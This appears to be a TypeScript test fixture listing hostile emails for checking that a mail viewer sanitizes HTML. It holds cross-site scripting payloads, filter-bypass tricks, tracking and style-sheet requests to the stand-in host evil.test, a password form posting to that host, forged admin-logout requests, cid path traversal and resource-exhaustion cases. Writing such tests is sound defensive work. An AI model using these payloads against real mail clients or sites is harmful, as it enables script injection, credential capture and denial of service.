// Emails that try to run code, send requests or break the page that shows them. `evil.test` is the host of the sender: nothing
// may ever be asked of it. Each text shows "oak" where the email has anything to read.
type HostileEmail = { name: string; raw: string };

const page = (name: string, html: string): HostileEmail => ({
	name,
	raw: `From: Mallory <mallory@evil.test>\nTo: office@larch.example\nSubject: ${name}\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n${html}`,
});

const multipart = (name: string, parts: string): HostileEmail => ({
	name,
	raw: `From: Mallory <mallory@evil.test>\nTo: office@larch.example\nSubject: ${name}\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n${parts}\n--b--\n`,
});

const url = "https://evil.test/x";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;

export const hostileEmails: readonly HostileEmail[] = [
	page("script", "<p>oak</p><script>alert(1)</script>"),
	page("script from elsewhere", `<p>oak</p><script src="${url}"></script>`),
	page("broken script", "<p>oak</p><scr<script>ipt>alert(1)</scr</script>ipt>"),
	page("handler", `<p onmouseover="alert(1)" onload="alert(1)">oak</p><img src=x onerror="alert(1)">`),
	page("script URL", `<p><a href="javascript:alert(1)">oak</a> <a href=" &#106;avascript:alert(1)">oak</a></p>`),
	page(
		"data URL",
		`<p>oak</p><a href="data:text/html,<script>alert(1)</script>">x</a><iframe src="data:text/html,x"></iframe>`,
	),
	page("svg", `<p>oak</p>${svg}<img src="data:image/svg+xml;base64,${Buffer.from(svg).toString("base64")}">`),
	page(
		"math",
		`<p>oak</p><math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
	),
	page("noscript", `<p>oak</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`),
	page("template", `<p>oak</p><template><img src=x onerror=alert(1)></template>`),
	page("unclosed", `<p>oak</p><textarea><img src=x onerror=alert(1)>`),
	page("comment", `<p>oak</p><!--><img src=x onerror=alert(1)>--><!--[if mso]><img src="${url}"><![endif]-->`),
	page(
		"style sheet",
		`<p>oak</p><link rel="stylesheet" href="${url}"><style>@import "${url}";body{background:url(${url})}</style>`,
	),
	page("style attribute", `<p style="background:url(${url});position:fixed;inset:0;z-index:9">oak</p>`),
	page(
		"style escapes",
		`<p style="background:\\75 rl(${url})">oak</p><p style="b/**/ackground:u/**/rl(${url})">oak</p>`,
	),
	page("style functions", `<p style="background-color:expression(alert(1));width:attr(x);color:var(--x)">oak</p>`),
	page(
		"fonts",
		`<p style="font-family:'x';src:url(${url})">oak</p><style>@font-face{font-family:x;src:url(${url})}</style>`,
	),
	page(
		"tracking picture",
		`<p>oak</p><img src="${url}" width=1 height=1><img srcset="${url} 2x"><picture><source srcset="${url}"></picture>`,
	),
	page(
		"picture everywhere",
		`<table background="${url}"><tr><td background="${url}">oak</td></tr></table><body background="${url}">`,
	),
	page("protocol-relative", `<p>oak</p><img src="//evil.test/x"><a href="//evil.test/x">x</a>`),
	page(
		"media",
		`<p>oak</p><video src="${url}" poster="${url}" autoplay></video><audio src="${url}" autoplay></audio><embed src="${url}"><object data="${url}"></object>`,
	),
	page(
		"frames",
		`<p>oak</p><iframe src="${url}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="${url}"></frameset>`,
	),
	page(
		"form",
		`<p>oak</p><form action="${url}"><input name="password"><button autofocus formaction="${url}">Sign in</button></form>`,
	),
	page("base", `<base href="https://evil.test/"><p>oak</p><a href="x">x</a><img src="x">`),
	page("refresh", `<meta http-equiv="refresh" content="0;url=${url}"><p>oak</p>`),
	page("prefetch", `<link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="//evil.test"><p>oak</p>`),
	page(
		"own pages",
		`<p>oak</p><img src="/admin/logout"><img src="http://localhost/admin/inbox"><a href="/admin/logout">x</a>`,
	),
	page(
		"named elements",
		`<p>oak</p><img name="body"><a id="documentElement" href="x">x</a><form name="location"></form>`,
	),
	page("deep elements", `${"<div>".repeat(5_000)}oak${"</div>".repeat(5_000)}`),
	page("many elements", `<p>oak</p>${"<b>x</b>".repeat(20_000)}`),
	page("open tags", `<p>oak</p>${"<blockquote><table><tr><td>".repeat(500)}`),
	page("direction", "<p>oak \u202egnp.exe\u202c</p><bdo dir=rtl>kao</bdo>"),
	multipart(
		"cid picture that is a page",
		`--b\nContent-Type: text/html\n\n<p>oak</p><img src="cid:a">\n--b\nContent-Type: image/png\nContent-ID: <a>\n\n<script>alert(1)</script>`,
	),
	multipart(
		"cid picture that is SVG",
		`--b\nContent-Type: text/html\n\n<p>oak</p><img src="cid:a"><a href="cid:a">x</a>\n--b\nContent-Type: image/svg+xml\nContent-ID: <a>\n\n${svg}`,
	),
	multipart(
		"cid of another email",
		`--b\nContent-Type: text/html\n\n<p>oak</p><img src="cid:../../messages/x/original"><img src="cid:%2e%2e/x">`,
	),
	multipart(
		"attachment with a page's name",
		`--b\nContent-Type: text/html\n\n<p>oak</p>\n--b\nContent-Type: text/html; name="x.html"\nContent-Disposition: attachment; filename="x.html"\n\n<script>alert(1)</script>`,
	),
	{
		name: "10,000 headers",
		raw: `From: mallory@evil.test\nSubject: 10,000 headers\n${Array.from({ length: 10_000 }, (_, n) => `X-${n}: ${n}`).join("\n")}\n\noak`,
	},
	{
		name: "deep MIME",
		raw: `From: mallory@evil.test\nSubject: deep MIME\n${Array.from({ length: 300 }, (_, n) => `Content-Type: multipart/mixed; boundary="${n}"\n\n--${n}\n`).join("")}Content-Type: text/plain\n\noak`,
	},
	{
		name: "broken charset",
		raw: "From: =?x-nothing?B?/////w==?= <mallory@evil.test>\nSubject: broken charset\nContent-Type: text/plain; charset=utf-7\n\noak +ADw-script+AD4-alert(1)+ADw-/script+AD4- \xff\xfe\xc0\x80",
	},
	{
		name: "zip bomb",
		raw: `From: mallory@evil.test\nSubject: zip bomb\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\noak\n--b\nContent-Type: application/zip; name="bomb.zip"\nContent-Transfer-Encoding: base64\n\n${Buffer.from("PK\x03\x04".padEnd(2_000_000, "\0")).toString("base64")}\n--b--\n`,
	},
	{
		name: "scripts in headers",
		raw: `From: "<script>alert(1)</script>" <mallory@evil.test>\nSubject: scripts in headers <img src=x onerror=alert(1)>\n\noak`,
	},
	{ name: "no headers", raw: "\n\noak" },
];
